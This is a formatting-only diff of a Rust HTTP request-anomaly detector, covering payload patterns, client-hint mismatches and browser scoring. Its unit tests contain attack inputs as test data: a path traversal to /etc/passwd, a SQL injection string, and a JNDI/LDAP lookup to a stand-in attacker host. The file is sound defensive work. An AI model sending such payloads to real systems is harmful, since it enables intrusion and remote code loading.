@@ -12,8 +12,8 @@ fn contains_ci(hay: &str, needle: &str) -> bool {
 }
 
 const ASSET_EXTENSIONS: [&str; 17] = [
-    "css", "js", "mjs", "map", "png", "jpg", "jpeg", "gif", "svg", "webp", "avif", "ico", "bmp", "woff", "woff2",
-    "ttf", "otf",
+    "css", "js", "mjs", "map", "png", "jpg", "jpeg", "gif", "svg", "webp", "avif", "ico", "bmp",
+    "woff", "woff2", "ttf", "otf",
 ];
 
 /// A path ending in a static-file extension (css, js, mjs, map, images, fonts).
@@ -60,8 +60,12 @@ const PAYLOAD_PATTERNS: [&str; 16] = [
 pub fn is_anomalous_payload(path: &str, query: &str) -> bool {
     let scan = |s: &str| {
         // Fast exit: every pattern contains one of these bytes.
-        s.bytes().any(|b| matches!(b, b'.' | b'%' | b'<' | b'$' | b'\'' | b':' | b' ' | b'+' | b'/' | b'\0'))
-            && (s.contains('\0') || PAYLOAD_PATTERNS.iter().any(|p| contains_ci(s, p)))
+        s.bytes().any(|b| {
+            matches!(
+                b,
+                b'.' | b'%' | b'<' | b'$' | b'\'' | b':' | b' ' | b'+' | b'/' | b'\0'
+            )
+        }) && (s.contains('\0') || PAYLOAD_PATTERNS.iter().any(|p| contains_ci(s, p)))
     };
     scan(path) || scan(query)
 }
@@ -78,7 +82,12 @@ pub fn is_generic_accept(accept: Option<&Cow<'_, str>>) -> bool {
 /// JSON (`application/json`, `+json`) or text/plain.
 pub fn is_unusual_content_type(content_type: Option<&Cow<'_, str>>) -> bool {
     let Some(ct) = content_type else { return true };
-    let mime = ct.split(';').next().unwrap_or("").trim().to_ascii_lowercase();
+    let mime = ct
+        .split(';')
+        .next()
+        .unwrap_or("")
+        .trim()
+        .to_ascii_lowercase();
     !(mime == "application/x-www-form-urlencoded"
         || mime == "multipart/form-data"
         || mime == "application/json"
@@ -109,7 +118,11 @@ pub fn chromium_major(ua: &str) -> Option<u32> {
 
 /// The major version in a Sec-CH-UA brand list for Chromium/Chrome/Edge.
 fn ch_major(sec_ch_ua: &str) -> Option<u32> {
-    for brand in ["\"Chromium\";v=\"", "\"Google Chrome\";v=\"", "\"Microsoft Edge\";v=\""] {
+    for brand in [
+        "\"Chromium\";v=\"",
+        "\"Google Chrome\";v=\"",
+        "\"Microsoft Edge\";v=\"",
+    ] {
         if let Some(v) = ua_major(sec_ch_ua, brand) {
             return Some(v);
         }
@@ -132,7 +145,12 @@ pub fn ua_ch_mismatch(r: &RequestRecord<'_>) -> Option<bool> {
         (Some(ua), Some(false)) => Some(chromium_major(ua).is_some_and(|m| m >= 90) && over_tls(r)),
         (Some(ua), Some(true)) => match chromium_major(ua) {
             None => Some(true),
-            Some(m) => Some(r.sec_ch_ua.as_deref().and_then(ch_major).is_some_and(|c| c != m)),
+            Some(m) => Some(
+                r.sec_ch_ua
+                    .as_deref()
+                    .and_then(ch_major)
+                    .is_some_and(|c| c != m),
+            ),
         },
     }
 }
@@ -140,8 +158,16 @@ pub fn ua_ch_mismatch(r: &RequestRecord<'_>) -> Option<bool> {
 /// Sec-CH-UA-Mobile or Sec-CH-UA-Platform contradicts the user agent. `None` when neither
 /// hint was sent.
 pub fn sec_ch_mobile_mismatch(r: &RequestRecord<'_>) -> Option<bool> {
-    let mobile = r.sec_ch_ua_mobile.as_deref().map(str::trim).filter(|s| !s.is_empty());
-    let platform = r.sec_ch_ua_platform.as_deref().map(|s| s.trim().trim_matches('"')).filter(|s| !s.is_empty());
+    let mobile = r
+        .sec_ch_ua_mobile
+        .as_deref()
+        .map(str::trim)
+        .filter(|s| !s.is_empty());
+    let platform = r
+        .sec_ch_ua_platform
+        .as_deref()
+        .map(|s| s.trim().trim_matches('"'))
+        .filter(|s| !s.is_empty());
     if mobile.is_none() && platform.is_none() {
         return None;
     }
@@ -167,15 +193,28 @@ pub fn sec_ch_mobile_mismatch(r: &RequestRecord<'_>) -> Option<bool> {
 /// `br` or `zstd` in Accept-Encoding; HTTP/2 or 3; Accept-Language present; a current
 /// browser version in the user agent (Chromium ≥ 100, Firefox ≥ 100, Safari ≥ 15).
 pub fn modern_browser_score(r: &RequestRecord<'_>) -> f32 {
-    let sec_fetch = r.sec_fetch_site.is_some() || r.sec_fetch_mode.is_some() || r.sec_fetch_dest.is_some();
-    let enc = r.accept_encoding.as_deref().is_some_and(|e| e.contains("br") || e.contains("zstd"));
-    let h2 = matches!(r.http_version, Some(HttpVersion::Http2 | HttpVersion::Http3));
+    let sec_fetch =
+        r.sec_fetch_site.is_some() || r.sec_fetch_mode.is_some() || r.sec_fetch_dest.is_some();
+    let enc = r
+        .accept_encoding
+        .as_deref()
+        .is_some_and(|e| e.contains("br") || e.contains("zstd"));
+    let h2 = matches!(
+        r.http_version,
+        Some(HttpVersion::Http2 | HttpVersion::Http3)
+    );
     let lang = r.accept_language.as_deref().is_some_and(|l| !l.is_empty());
     let ua = r.user_agent.as_deref().unwrap_or("");
     let modern_ua = chromium_major(ua).is_some_and(|m| m >= 100)
         || ua_major(ua, "Firefox/").is_some_and(|m| m >= 100)
-        || (ua.contains("Safari/") && !ua.contains("Chrome/") && ua_major(ua, "Version/").is_some_and(|m| m >= 15));
-    [sec_fetch, enc, h2, lang, modern_ua].iter().filter(|b| **b).count() as f32 / 5.0
+        || (ua.contains("Safari/")
+            && !ua.contains("Chrome/")
+            && ua_major(ua, "Version/").is_some_and(|m| m >= 15));
+    [sec_fetch, enc, h2, lang, modern_ua]
+        .iter()
+        .filter(|b| **b)
+        .count() as f32
+        / 5.0
 }
 
 /// Host normalised for the session key: ASCII lower case, without port or trailing dot.
@@ -186,7 +225,11 @@ pub fn normalize_host(host: &str) -> Cow<'_, str> {
         h.find(']').map_or(h, |i| &h[..=i])
     } else {
         match h.rsplit_once(':') {
-            Some((name, port)) if !name.contains(':') && port.bytes().all(|b| b.is_ascii_digit()) => name,
+            Some((name, port))
+                if !name.contains(':') && port.bytes().all(|b| b.is_ascii_digit()) =>
+            {
+                name
+            }
             _ => h,
         }
     };
@@ -204,17 +247,31 @@ mod tests {
 
     #[test]
     fn predicates() {
-        assert!(is_asset("/static/app.min.js") && is_asset("/f/Inter.WOFF2") && !is_asset("/api/v1.2/users"));
+        assert!(
+            is_asset("/static/app.min.js")
+                && is_asset("/f/Inter.WOFF2")
+                && !is_asset("/api/v1.2/users")
+        );
         assert_eq!(url_depth("/a/b/c"), 3);
         assert!(is_login_post(Some(Method::Post), "/wp-login.php"));
         assert!(!is_login_post(Some(Method::Get), "/wp-login.php"));
         assert!(is_anomalous_payload("/../../etc/passwd", ""));
-        assert!(is_anomalous_payload("/search", "q=1%27%20OR%20%271%27=%271 UNION SELECT"));
+        assert!(is_anomalous_payload(
+            "/search",
+            "q=1%27%20OR%20%271%27=%271 UNION SELECT"
+        ));
         assert!(is_anomalous_payload("/x", "a=${jndi:ldap://e.vil/a}"));
-        assert!(!is_anomalous_payload("/products/shoes.html", "page=2&sort=price"));
+        assert!(!is_anomalous_payload(
+            "/products/shoes.html",
+            "page=2&sort=price"
+        ));
         assert!(is_generic_accept(None) && is_generic_accept(Some(&"*/*".into())));
-        assert!(!is_unusual_content_type(Some(&"application/json; charset=utf-8".into())));
-        assert!(is_unusual_content_type(Some(&"application/x-java-serialized-object".into())));
+        assert!(!is_unusual_content_type(Some(
+            &"application/json; charset=utf-8".into()
+        )));
+        assert!(is_unusual_content_type(Some(
+            &"application/x-java-serialized-object".into()
+        )));
         assert_eq!(normalize_host("Example.COM:8443"), "example.com");
         assert_eq!(normalize_host("[2001:db8::1]:443"), "[2001:db8::1]");
         assert_eq!(normalize_host("shop.example."), "shop.example");
@@ -229,12 +286,17 @@ mod tests {
             header_names: Some(vec!["host".into(), "user-agent".into()]),
             ..RequestRecord::default()
         };
-        assert_eq!(ua_ch_mismatch(&r), Some(true), "Chrome 124 over TLS without hints");
+        assert_eq!(
+            ua_ch_mismatch(&r),
+            Some(true),
+            "Chrome 124 over TLS without hints"
+        );
         r.sec_ch_ua = Some(r#""Chromium";v="124", "Google Chrome";v="124""#.into());
         assert_eq!(ua_ch_mismatch(&r), Some(false));
         r.sec_ch_ua = Some(r#""Chromium";v="120""#.into());
         assert_eq!(ua_ch_mismatch(&r), Some(true), "version disagrees");
-        r.user_agent = Some("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0".into());
+        r.user_agent =
+            Some("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0".into());
         assert_eq!(ua_ch_mismatch(&r), Some(true), "Firefox never sends hints");
         r.sec_ch_ua_mobile = Some("?1".into());
         assert_eq!(sec_ch_mobile_mismatch(&r), Some(true));
